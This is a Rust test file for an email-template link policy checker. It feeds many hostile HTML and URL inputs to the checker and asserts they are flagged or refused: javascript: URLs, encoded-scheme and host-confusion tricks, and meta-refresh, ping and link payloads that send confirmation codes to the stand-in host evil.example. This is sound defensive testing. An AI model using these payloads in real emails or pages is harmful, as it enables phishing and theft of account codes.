mod reader;
mod text;

use super::*;
use crate::model::deployment::Deployment;
use crate::model::settings::{self, Settings};

fn policy() -> LinkPolicy {
    let variables = [
        ("ENVIRONMENT", "development"),
        ("PUBLIC_ORIGIN", "https://id.example.com"),
        ("ADMIN_USERNAME", "admin"),
        ("ADMIN_PASSWORD", "admin"),
        ("TOKEN_KEYS", "k1:AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8="),
    ];
    let get = |name: &str| variables.iter().find(|(known, _)| *known == name).map(|(_, value)| (*value).to_owned());
    let deployment = Deployment::load(get, |_, _| None).expect("complete");
    let set = settings::Values::from([
        ("SIGN_IN_URL", "https://app.example.com/login".to_owned()),
        ("TEMPLATE_LINK_HOSTS", "www.example.com, Bücher.example".to_owned()),
        ("MAIL_REPLY_TO", "help@example.com".to_owned()),
    ]);
    let mut problems = Vec::new();
    let settings = Settings::parse(&set, &mut problems);
    assert_eq!(problems, Vec::<String>::new());
    LinkPolicy::new(&deployment, &settings)
}

fn of_html(html: &str) -> Vec<Problem> {
    problems(&Template { subject: "s".into(), html: html.into(), text: "t".into() }, &policy())
}

fn of_text(text: &str) -> Vec<Problem> {
    problems(&Template { subject: "s".into(), html: "h".into(), text: text.into() }, &policy())
}

const CODE: &str = "{{confirmation-code}}";
const LINK: &str = "{{invitation-link}}";
const ENDPOINT: &str = "{{account.recovery.endpoint-url}}";

/// Ways to write an address into a link.
fn links(address: &str) -> Vec<String> {
    [
        "<a href=\"{}\">x</a>",
        "<A HREF='{}'>x</A>",
        "<a\nhref = \"{}\">x</a>",
        "<area href=\"{}\">",
        "<v:roundrect href=\"{}\">",
        "<a xlink:href=\"{}\">",
        "<!--[if mso]><a href=\"{}\">x</a><![endif]-->",
        "<!--[if !mso]><!--><a href=\"{}\">x</a><!--<![endif]-->",
        "<noscript><a href=\"{}\">x</a></noscript>",
        "<a href=\"/\" href=\"{}\">x</a>",
        "<a title='>' href=\"{}\">x</a>",
    ]
    .map(|way| way.replace("{}", address))
    .to_vec()
}

#[test]
fn links_lead_to_placeholders_our_own_addresses_and_the_tenants_hosts() {
    for fine in [
        "{{invitation-link}}",
        " {{invitation-link}} ",
        "{{confirmation-link}}?utm_source=x",
        "{{invitation-link}}#top",
        "{{invitation-link}}&name={{url:user-name}}",
        "{{account.recovery.endpoint-url}}/confirmrecovery.do?confirmation={{confirmation-code}}&username={{url:user-name}}",
        "{{product-url-with-user-tenant}}/invite/{{confirmation-code}}",
        "{{carbon.product-url}}",
        "{{carbon.product-url}}/x",
        "{{sign-in-link}}",
        "{{authentication.endpoint-url}}?a=b",
        "#",
        "",
        "#top",
        "/x?y=z",
        "x/y.html",
        "?a",
        "mailto:{{support-email}}",
        "mailto:{{organization.support.mail}}?subject=Help",
        "mailto:help@example.com",
        "MAILTO:Help@Example.com?subject=Hello%20{{url:user-name}}&body=Hi",
        "https://id.example.com",
        "https://id.example.com/x",
        "HTTPS://ID.example.com:443/",
        "https://app.example.com/other",
        "https://www.example.com/{{user.claim.x}}",
        "https://www.example.com:8443/",
        "https://bücher.example/",
        "https://xn--bcher-kva.example/?q={{user-name}}",
        "https://www.example.com.",
        " https://www.example.com/ ",
    ] {
        for html in links(fine) {
            assert_eq!(of_html(&html), [], "{html}");
        }
    }
    for bad in [
        "https://evil.example/",
        "http://id.example.com/",
        "http://www.example.com/",
        "https://id.example.com:8443/",
        "https://id.example.com.evil.example/",
        "https://id.example.com@evil.example/",
        "https://a:b@id.example.com/",
        "https://id.example.com\\@evil.example/",
        "https:\\\\evil.example",
        "https:/evil.example",
        "https:evil.example",
        "https:///evil.example",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "/\t/evil.example",
        "ht\ntps://evil.example",
        " \u{1}https://evil.example",
        "javascript:alert(1)",
        "JAVA&Tab;SCRIPT:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "&#104;ttps://evil.example",
        "&#x68;ttps&colon;//evil.example",
        "https&#58;//evil.example",
        "tel:+155501",
        "sms:1",
        "ftp://x",
        "mailto:a@evil.example",
        "mailto:help@example.com,a@evil.example",
        "mailto:help@example.com?cc=a@evil.example",
        "mailto:?to=a@evil.example",
        "mailto:{{support-email}},a@evil.example",
        "mailto:{{support-email}}?subject={{user-name}}",
        "mailto:{{user.claim.emailaddress}}",
        "{{user.claim.url}}",
        "{{user.claim.url}}/x",
        "https://{{user.claim.x}}/",
        "https://{{user.claim.x}}.example.com/",
        "https://www.example.com{{user.claim.x}}/",
        "/{{user.claim.x}}",
        "{{callback}}",
        "ht{{user.claim.x}}tps://evil.example/",
        "{{sp}}https://evil.example",
        "{{sign-in-link}}//evil.example",
        "{{sign-in-link}}.evil.example",
        "{{carbon.product-url}}.evil.example",
        "{{carbon.product-url}}@evil.example",
        "{{invitation-link}}//evil.example",
        "{{url:carbon.product-url}}/x",
        "{{organization.logo.img}}",
        "{{nobody}}://evil.example",
        "https://www.example.com.evil.example",
        "https://xn--80ak6aa92e.com/",
        "https://sub.www.example.com/",
        "https://www。example.com.evil/",
        "\u{f0000}x:y",
    ] {
        for html in links(bad) {
            let found = of_html(&html);
            assert!(found.iter().any(|problem| matches!(problem, Problem::Foreign(..))), "{html}: {found:?}");
        }
    }
}

#[test]
fn inside_an_address_the_link_stands_at_its_start_and_the_code_behind_our_endpoint() {
    for bad in [
        "https://evil.example/?c={}",
        "https://www.example.com/{}",
        "https://id.example.com/invite/{}",
        "//evil.example/{}",
        "/{}",
        "?c={}",
        "#{}",
        "x{}",
        "mailto:{{support-email}}?body={}",
        "mailto:a@evil.example?body={}",
        "tel:{}",
        "javascript:x({})",
        "https://{}.evil.example/",
        "{{user.claim.x}}{}",
        "{{user.claim.x}}/{}",
        "{{sign-in-link}}/?c={}",
        "{{callback}}{}",
        "{{carbon.product-url}}.evil.example/{}",
        "{{carbon.product-url}}@evil.example/{}",
        "{{carbon.product-url}}:80@evil/{}",
        "{{carbon.product-url}}/x?u=https://evil.example/{}",
        "&#104;ttps://evil.example/{}",
        "ht\ttps://evil.example/{}",
        "https://evil.example/\n{}",
        "https://id.example.com@evil.example/{}",
        "https:\\\\evil.example\\{}",
        "{{url:carbon.product-url}}/{}",
        "{{invitation-link}}?c={}",
        "{{organization.logo.img}}{}",
        "\u{f0000}/{}",
        "&#983040;/{}",
        "&#x000f0000/{}",
    ] {
        for secret in [CODE, LINK, "{{url:confirmation-link}}", "{{url:confirmation-code}}"] {
            for html in links(&bad.replace("{}", secret)) {
                let found = of_html(&html);
                assert!(found.iter().any(|problem| matches!(problem, Problem::Leak(..))), "{html}: {found:?}");
            }
        }
    }
    for html in links("{{confirmation-code}}") {
        assert!(!of_html(&html).is_empty(), "{html}");
    }
    for html in links("{{carbon.product-url}}/{{invitation-link}}") {
        assert!(!of_html(&html).is_empty(), "{html}");
    }
}

/// Ways to have an address loaded.
const LOADED: &[&str] = &[
    "<img src=\"{}\">",
    "<img srcset=\"{} 2x\">",
    "<img srcset=\"/x.png, {} 300w\">",
    "<td background=\"{}\">",
    "<link rel=stylesheet href=\"{}\">",
    "<video poster=\"{}\">",
    "<p style=\"background:url({})\">",
    "<p style=\"background: URL( '{}' )\">",
    "<p style=\"background:u\\72l({})\">",
    "<style>@import '{}';</style>",
    "<style>@import url({});</style>",
    "<style>p { background: image-set(\"{}\" 1x) }</style>",
    "<style>/* don't */ @font-face { src: local('A B'), url({}) format('woff2') }</style>",
    "<v:fill src=\"{}\">",
    "<!--[if mso]><v:imagedata src=\"{}\"><![endif]-->",
    "<v:image src='{}'>",
    "<table background='{}'>",
];

#[test]
fn pictures_styles_and_fonts_come_from_https_and_tell_nothing() {
    for address in [
        "https://cdn.example/x.png",
        "https://cdn.example/{{organization.logo.img}}",
        "{{organization.logo.img}}",
        "/x.png",
        "x.png",
        "data:image/png;base64,AAAA",
        "cid:logo",
        "https://cdn.example:8443/a,b",
    ] {
        for way in LOADED {
            let html = way.replace("{}", address);
            assert_eq!(of_html(&html), [], "{html}");
        }
    }
    for address in [
        "https://evil.example/{{user-name}}",
        "https://evil.example/?{{user.claim.x}}",
        "https://{{tenant-domain}}.evil.example/x",
        "http://cdn.example/x.png",
        "//cdn.example/x.png",
        "https:\\\\evil.example/x",
        "ftp://x/y",
        "javascript:alert(1)",
        "https://a@evil.example/x",
        "data:text/css,x",
        "{{carbon.product-url}}//x.png?{{user-name}}",
        "HTTP://evil/x",
        "https://evil.example/{{invitation-link}}",
        "https://evil.example/{{url:confirmation-code}}",
        "https://evil.example//{{user-name}}",
    ] {
        for way in LOADED {
            let html = way.replace("{}", address);
            let found = of_html(&html);
            assert!(found.iter().any(|problem| matches!(problem, Problem::Loads(..))), "{html}: {found:?}");
        }
    }
}

#[test]
fn forms_scripts_bases_and_their_like_are_refused() {
    for html in [
        "<form action='https://evil.example/'><input name=x></form>",
        "<FORM>",
        "<input>",
        "<button formaction='https://evil.example'>",
        "<script>x</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<base href='https://evil.example/'>",
        "<p onclick='x'>",
        "<img src=x onerror=x>",
        "<a ping='https://evil.example/{{confirmation-code}}' href='#'>",
        "<iframe srcdoc='x'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/{{confirmation-code}}'>",
        "<meta http-equiv=' Refresh '>",
        "<svg><a xlink:href='/'>x</a></svg>",
        "<math href='/'>",
        "<object data='/x'>",
        "<embed src='/x'>",
        "<p style='width: expression(x)'>",
        "<style>p { -moz-binding: url(/x) }</style>",
        "<style><form action=x></style>",
        "<!--[if mso]><form action='/'><![endif]-->",
        "<noscript><form></noscript>",
        "<{{user-name}}script>x</script>",
        "<plaintext>",
        "<xmp><a href='https://evil.example'>",
        "<meta http-equiv='{{user.claim.x}}'>",
        "<p style='behavior : url(/x)'>",
    ] {
        let found = of_html(html);
        assert!(found.iter().any(|problem| matches!(problem, Problem::Forbidden(..))), "{html}: {found:?}");
    }
    for html in [
        "<meta charset=utf-8><meta http-equiv='Content-Type' content='text/html; charset=utf-8'><meta name=viewport content='width=device-width'>",
        "<!--[if mso]><noscript><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml></noscript><![endif]-->",
        "<style>@media (max-width: 480px) { a[href^=\"x\"] { color: {{organization.color.primary}} !important } } p:after { content: \"\\201C\" }</style>",
        "<table bgcolor='{{organization.color.background}}' style='font: 16px/25px {{organization.font}}'><tr><td>{{greeting}}</td></tr></table>",
        "<html xmlns:o='urn:schemas-microsoft-com:office:office' xmlns:v=\"urn:schemas-microsoft-com:vml\">",
    ] {
        assert_eq!(of_html(html), [], "{html}");
    }
}

#[test]
fn a_value_stands_where_every_parser_takes_it_to_stand() {
    for html in [
        "<!-- --!><a title={{user.claim.x}} href=/>",
        "<title><a title='</title><a title={{user.claim.x}} href='/'>",
        "<a href=\"/\" title=\u{a0}\"{{user.claim.x}} \">",
        "<style></styles>{{user.claim.x}}</style>",
        "<!--{{user.claim.x}}--!><p {{user.claim.x}}>{{user.claim.y}}",
    ] {
        let found = of_html(html);
        let rendered = crate::mail::render::html::render(
            html,
            &crate::mail::template::Values::from_iter([("user.claim.x", "a onclick=x href=y>")]),
        );
        let harmless = rendered.is_ok_and(|html| !html.contains(" onclick=x"));
        assert!(harmless || !found.is_empty(), "{html}");
    }
    // A value that is empty gives its place to nothing else.
    let values = crate::mail::template::Values::from_iter([("user.claim.x", "")]);
    for (html, rendered) in [
        ("<a title={{user.claim.x}} href=/>", "<a title=\"\" href=/>"),
        ("<a title={{user.claim.x}}>", "<a title=\"\">"),
        ("<a title={{user.claim.x}}{{user.claim.x}}y>", "<a title=y>"),
    ] {
        assert_eq!(crate::mail::render::html::render(html, &values).as_deref(), Ok(rendered));
    }
}

#[test]
fn shipped_templates_are_held_to_the_same() {
    use crate::i18n::Language;
    use crate::mail::render::shipped;
    use crate::model::mail::TemplateType;
    for language in Language::ALL {
        for kind in TemplateType::ALL {
            assert_eq!(problems(shipped(kind, language.locale()), &LinkPolicy::default()), [], "{kind:?} {language:?}");
        }
    }
}

#[test]
fn the_work_is_bounded_and_so_is_what_is_said() {
    let many =
        "<a href='https://evil.example/{{confirmation-code}}'>{{confirmation-code}}evil.example/</a>".repeat(700);
    assert!(of_html(&many).len() <= MOST_PROBLEMS);
    for hostile in [
        "<!--[if x]>".repeat(5000),
        "<a ".repeat(20_000),
        "{{user.claim.x}}".repeat(4000),
        "url(".repeat(15_000),
        "\"'".repeat(30_000),
        "&#".repeat(30_000),
    ] {
        of_html(&hostile);
        of_html(&format!("<style>{hostile}</style>"));
        of_html(&format!("<p style='{hostile}'>"));
        of_text(&hostile);
    }
    let secrets = "{{confirmation-code}}.".repeat(2500);
    of_text(&secrets);
}
